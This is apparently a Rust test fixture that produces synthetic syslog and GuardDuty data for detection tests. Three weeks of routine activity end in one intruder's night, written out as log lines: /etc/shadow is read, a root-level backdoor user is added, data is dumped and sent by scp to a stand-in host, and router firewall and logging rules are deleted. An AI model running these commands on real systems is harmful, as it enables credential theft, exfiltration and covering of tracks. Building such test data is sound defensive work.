//! Three kinds of sender with a past: a dozen ordinary people each for three weeks, and one who has
//! a bad day at the end.

use std::os::unix::net::UnixDatagram;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use domain::time::{Clock, DAY_US, HOUR_US, MINUTE_US, Timestamp};
use serde_json::{Value, json};
use server::clock::SystemClock;
use testkit::binary::eventually;
use testkit::guardduty::{Fixture, finding};

/// Days of the past before the bad one.
const DAYS: i64 = 20;

/// The beginning of the bad day: yesterday, so that nothing lies in the future.
pub fn bad_day() -> Timestamp {
    let today = SystemClock.now().micros() / DAY_US * DAY_US;
    Timestamp::from_micros(today - DAY_US)
}

/// An instant of each person's work on each ordinary day: person, day, time, number of the day.
fn work(times_a_day: i64) -> impl Iterator<Item = (usize, Timestamp, i64)> {
    let first = bad_day().plus(-DAYS * DAY_US);
    (0..DAYS).flat_map(move |day| {
        (0..times_a_day).flat_map(move |n| {
            (0..12_usize).map(move |person| {
                let spread = (person as i64 * 17 + day * 5 + n * 7) % 50;
                let at = day * DAY_US + (8 + n * 8 / times_a_day) * HOUR_US + spread * MINUTE_US;
                (person, first.plus(at), n)
            })
        })
    })
}

/// The instant of the bad night's step with this number.
fn night(number: i64) -> Timestamp {
    bad_day().plus(2 * HOUR_US + number * 20_000_000)
}

/// RFC 3339, to the second.
fn iso(at: Timestamp) -> String {
    at.to_string()
}

/// BSD syslog's time, in UTC: `Nov  5 09:12:03`.
fn bsd(at: Timestamp) -> String {
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let text = at.to_string();
    let number = |range: std::ops::Range<usize>| text[range].parse::<usize>().unwrap();
    let (month, day) = (MONTHS[number(5..7) - 1], number(8..10));
    format!("{month} {day:2} {}", &text[11..19])
}

/// RouterOS with `bsd-syslog=yes`: administrators who sign in with WinBox and change little.
pub mod router {
    use super::*;

    /// Who has the bad day.
    pub const ACTOR: &str = "netop05";

    fn line(at: Timestamp, topics: &str, message: &str) -> String {
        format!("<30>{} gw1 {topics} {message}", bsd(at))
    }

    fn account(at: Timestamp, who: &str, how: &str) -> String {
        line(at, "system,info,account", &format!("user {who} {how}"))
    }

    fn changed(at: Timestamp, who: &str, from: &str, what: &str, command: &str) -> String {
        let message = format!("{what} by {from}:{who}@198.51.100.66 (*1 = {command})");
        line(at, "system,info", &message)
    }

    /// Three weeks of a dozen administrators.
    pub fn history() -> Vec<String> {
        let one = |(person, at, n): (usize, Timestamp, i64)| {
            let who = format!("netop{person:02}");
            let from = format!("from 10.0.0.{} via winbox", 10 + person);
            match n % 2 {
                0 => account(at, &who, &format!("logged in {from}")),
                _ => account(at, &who, &format!("logged out {from}")),
            }
        };
        work(4).map(one).collect()
    }

    /// Guessed at, signed in over ssh from elsewhere at night, an own user, holes in the
    /// firewall, logging switched off.
    pub fn bad_night() -> Vec<String> {
        let mut lines: Vec<String> = (0..25)
            .map(|n| {
                let message = format!("login failure for user {ACTOR} from 198.51.100.66 via ssh");
                line(night(n), "system,error,critical", &message)
            })
            .collect();
        lines.push(account(
            night(26),
            ACTOR,
            "logged in from 198.51.100.66 via ssh",
        ));
        let changes = [
            ("user added", "/user add name=support group=full"),
            ("filter rule removed", "/ip firewall filter remove 0"),
            (
                "nat rule added",
                "/ip firewall nat add action=dst-nat chain=dstnat",
            ),
            ("log rule removed", "/system logging remove 0"),
            ("ppp secret added", "/ppp secret add name=back service=any"),
            (
                "address added",
                "/ip address add address=10.9.0.1/24 interface=ether2",
            ),
        ];
        for round in 0..5 {
            for (n, (what, command)) in changes.iter().enumerate() {
                let at = night(27 + round * 6 + n as i64);
                lines.push(changed(at, ACTOR, "ssh", what, command));
            }
        }
        lines
    }

    /// Sends lines as datagrams, not faster than a router does.
    pub async fn send(port: u16, lines: Vec<String>) {
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let mut pace = tokio::time::interval(Duration::from_millis(1));
        for line in lines {
            pace.tick().await;
            let target = ("127.0.0.1", port);
            socket.send_to(line.as_bytes(), target).await.unwrap();
        }
    }
}

/// A Linux host: programs write into the socket of rsyslog, which forwards.
pub mod linux {
    use super::*;

    /// Who has the bad day.
    pub const ACTOR: &str = "dev05";

    fn line(at: Timestamp, program: &str, message: &str) -> String {
        format!("<86>1 {} web1 {program} 4242 - - {message}", iso(at))
    }

    fn sudo(at: Timestamp, who: &str, command: &str) -> String {
        let message =
            format!("{who} : TTY=pts/1 ; PWD=/home/{who} ; USER=root ; COMMAND={command}");
        line(at, "sudo", &message)
    }

    /// Three weeks of a dozen people who sign in and restart their service.
    pub fn history() -> Vec<String> {
        let one = |(person, at, n): (usize, Timestamp, i64)| {
            let who = format!("dev{person:02}");
            let from = format!("{who} from 10.0.1.{} port 50022", 10 + person);
            match n {
                0 | 3 => line(at, "sshd", &format!("Accepted publickey for {from} ssh2")),
                1 => sudo(at, &who, "/usr/bin/systemctl restart shop"),
                _ => line(at, "sshd", &format!("Disconnected from user {from}")),
            }
        };
        work(5).map(one).collect()
    }

    /// Guessed at, signed in from elsewhere at night, secrets read, everything packed and sent.
    pub fn bad_night() -> Vec<String> {
        let failed = |n| {
            let message = format!("Failed password for {ACTOR} from 203.0.113.66 port 40022 ssh2");
            line(night(n), "sshd", &message)
        };
        let mut lines: Vec<String> = (0..40).map(failed).collect();
        let message = format!("Accepted password for {ACTOR} from 203.0.113.66 port 40022 ssh2");
        lines.push(line(night(41), "sshd", &message));
        let commands = [
            "/usr/bin/cat /etc/shadow",
            "/usr/sbin/useradd -o -u 0 backup2",
            "/usr/bin/pg_dumpall -f /tmp/all.sql",
            "/usr/bin/tar czf /tmp/all.tgz /srv /etc",
            "/usr/bin/scp /tmp/all.tgz x@203.0.113.66:",
            "/usr/bin/truncate -s 0 /var/log/auth.log",
        ];
        for round in 0..6 {
            for (n, command) in commands.iter().enumerate() {
                let at = night(42 + round * 6 + n as i64);
                lines.push(sudo(at, ACTOR, &format!("{command} {round}")));
            }
        }
        lines
    }

    /// A running rsyslog with a socket of its own.
    pub struct Rsyslog {
        child: Child,
        socket: UnixDatagram,
    }

    impl Rsyslog {
        /// Starts the system's rsyslogd, which forwards to a port over TCP.
        pub async fn start(folder: &Path, port: u16) -> Self {
            let at = folder.display();
            let text = format!(
                "global(workDirectory=\"{at}\")\n\
                 module(load=\"imuxsock\" SysSock.Use=\"off\")\n\
                 input(type=\"imuxsock\" Socket=\"{at}/log\" UseSpecialParser=\"off\" \
                 ParseHostname=\"on\" IgnoreTimestamp=\"off\" UseSysTimeStamp=\"off\" RateLimit.Interval=\"0\")\n\
                 action(type=\"omfwd\" target=\"127.0.0.1\" port=\"{port}\" protocol=\"tcp\" \
                 TCP_Framing=\"octet-counted\" template=\"RSYSLOG_SyslogProtocol23Format\")\n"
            );
            std::fs::write(folder.join("rsyslog.conf"), text).unwrap();
            let log = std::fs::File::create(folder.join("rsyslog.log")).unwrap();
            let child = Command::new("rsyslogd")
                .args(["-n", "-iNONE", "-f"])
                .arg(folder.join("rsyslog.conf"))
                .stdout(Stdio::null())
                .stderr(log)
                .spawn()
                .expect("rsyslogd runs: scripts/test installs it");
            let socket = UnixDatagram::unbound().unwrap();
            eventually("rsyslog takes messages", async || {
                socket.connect(folder.join("log")).is_ok()
            })
            .await;
            Self { child, socket }
        }

        /// Writes as a program on the host does; waits while rsyslog is busy.
        pub async fn write(&self, lines: Vec<String>) {
            let socket = self.socket.try_clone().unwrap();
            let writing = tokio::task::spawn_blocking(move || {
                for line in lines {
                    socket.send(line.as_bytes()).unwrap();
                }
            });
            writing.await.unwrap();
        }
    }

    impl Drop for Rsyslog {
        fn drop(&mut self) {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// An AWS account with GuardDuty: noise about a dozen users, then one finding that is none.
pub mod account {
    use super::*;

    /// Where its detector is.
    pub const REGION: &str = "eu-central-1";
    /// Who has the bad day.
    pub const ACTOR: &str = "user-5";

    /// Findings of low severity about everybody, on the last days a first pull asks for.
    pub fn history(fixture: &Fixture) {
        let all = work(1).enumerate().map(|(number, (person, at, _))| {
            let mut noise = finding(REGION, number, &iso(at));
            noise["severity"] = json!(2.0);
            noise["resource"]["accessKeyDetails"]["userName"] = json!(format!("user-{person}"));
            noise
        });
        let all: Vec<Value> = all.collect();
        fixture.state().regions.insert(REGION.to_owned(), all);
    }

    /// Data leaves a bucket under the key of one of them.
    pub fn bad_night(fixture: &Fixture) {
        let mut worst = finding(REGION, 100_000, &iso(night(0)));
        worst["type"] = json!("Exfiltration:S3/AnomalousBehavior");
        worst["severity"] = json!(8.0);
        worst["resource"]["accessKeyDetails"]["userName"] = json!(ACTOR);
        worst["service"]["action"]["awsApiCallAction"]["api"] = json!("GetObject");
        worst["service"]["action"]["awsApiCallAction"]["serviceName"] = json!("s3.amazonaws.com");
        let mut state = fixture.state();
        state.regions.get_mut(REGION).unwrap().push(worst);
    }
}
